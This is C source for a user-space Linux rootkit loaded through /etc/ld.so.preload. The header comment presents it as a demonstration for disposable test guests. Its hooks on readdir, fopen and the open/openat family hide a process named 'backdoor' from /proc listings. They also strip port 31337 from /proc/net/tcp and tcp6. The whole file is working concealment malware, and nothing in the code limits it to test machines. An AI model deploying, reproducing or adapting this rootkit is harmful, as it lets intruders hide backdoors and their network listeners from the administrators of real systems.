/*
 * A user-space rootkit for demonstrations inside test guests: a library that /etc/ld.so.preload puts into every dynamic
 * program. It leaves the process named `backdoor` out of listings of /proc, and the port it listens on out of
 * /proc/net/tcp and tcp6. It has no other effect, cannot spread, and lives in a throw-away disk.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/types.h>
#include <unistd.h>

#define HIDDEN_NAME "backdoor\n"
#define HIDDEN_PORT "7A69" /* 31337 as the tables print it */

static int is_hidden(const char *pid) {
    char path[300], name[32];
    if (*pid < '0' || *pid > '9') return 0;
    snprintf(path, sizeof path, "/proc/%s/comm", pid);
    int (*real)(const char *, int, ...) = dlsym(RTLD_NEXT, "open");
    int file = real(path, O_RDONLY | O_CLOEXEC);
    if (file < 0) return 0;
    ssize_t n = read(file, name, sizeof name - 1);
    close(file);
    name[n > 0 ? n : 0] = 0;
    return !strcmp(name, HIDDEN_NAME);
}

static int is_proc(DIR *directory) {
    char link[64], target[64];
    snprintf(link, sizeof link, "/proc/self/fd/%d", dirfd(directory));
    ssize_t n = readlink(link, target, sizeof target);
    return n == 5 && !memcmp(target, "/proc", 5);
}

struct dirent *readdir(DIR *directory) {
    struct dirent *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir");
    struct dirent *entry;
    while ((entry = real(directory)) && is_hidden(entry->d_name) && is_proc(directory));
    return entry;
}

struct dirent64 *readdir64(DIR *directory) {
    struct dirent64 *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir64");
    struct dirent64 *entry;
    while ((entry = real(directory)) && is_hidden(entry->d_name) && is_proc(directory));
    return entry;
}

static int is_socket_table(const char *path) {
    size_t length = strlen(path);
    if (strncmp(path, "/proc/", 6)) return 0;
    return (length > 8 && !strcmp(path + length - 8, "/net/tcp")) || (length > 9 && !strcmp(path + length - 9, "/net/tcp6"));
}

/* A file in memory that holds the table without the hidden lines. */
static int filtered(const char *path) {
    FILE *(*real)(const char *, const char *) = dlsym(RTLD_NEXT, "fopen");
    FILE *table = real(path, "re");
    if (!table) return -1;
    int copy = memfd_create("table", 0);
    FILE *out = fdopen(dup(copy), "w");
    char *line = NULL;
    size_t room = 0;
    while (out && getline(&line, &room, table) > 0)
        if (!strstr(line, ":" HIDDEN_PORT " ")) fputs(line, out);
    free(line);
    fclose(table);
    if (out) fclose(out);
    lseek(copy, 0, SEEK_SET);
    return copy;
}

static FILE *open_stream(const char *name, const char *path, const char *mode) {
    FILE *(*real)(const char *, const char *) = dlsym(RTLD_NEXT, name);
    if (!is_socket_table(path)) return real(path, mode);
    int file = filtered(path);
    return file < 0 ? NULL : fdopen(file, mode);
}

FILE *fopen(const char *path, const char *mode) { return open_stream("fopen", path, mode); }
FILE *fopen64(const char *path, const char *mode) { return open_stream("fopen64", path, mode); }

static mode_t creation_mode(int flags, va_list arguments) {
    return flags & (O_CREAT | O_TMPFILE) ? va_arg(arguments, mode_t) : 0;
}

#define DEFINE_OPEN(NAME)                                                     \
    int NAME(const char *path, int flags, ...) {                              \
        int (*real)(const char *, int, ...) = dlsym(RTLD_NEXT, #NAME);        \
        va_list arguments;                                                    \
        va_start(arguments, flags);                                           \
        mode_t mode = creation_mode(flags, arguments);                        \
        va_end(arguments);                                                    \
        return is_socket_table(path) ? filtered(path) : real(path, flags, mode); \
    }

#define DEFINE_OPENAT(NAME)                                                   \
    int NAME(int directory, const char *path, int flags, ...) {               \
        int (*real)(int, const char *, int, ...) = dlsym(RTLD_NEXT, #NAME);   \
        va_list arguments;                                                    \
        va_start(arguments, flags);                                           \
        mode_t mode = creation_mode(flags, arguments);                        \
        va_end(arguments);                                                    \
        return is_socket_table(path) ? filtered(path) : real(directory, path, flags, mode); \
    }

DEFINE_OPEN(open)
DEFINE_OPEN(open64)
DEFINE_OPENAT(openat)
DEFINE_OPENAT(openat64)
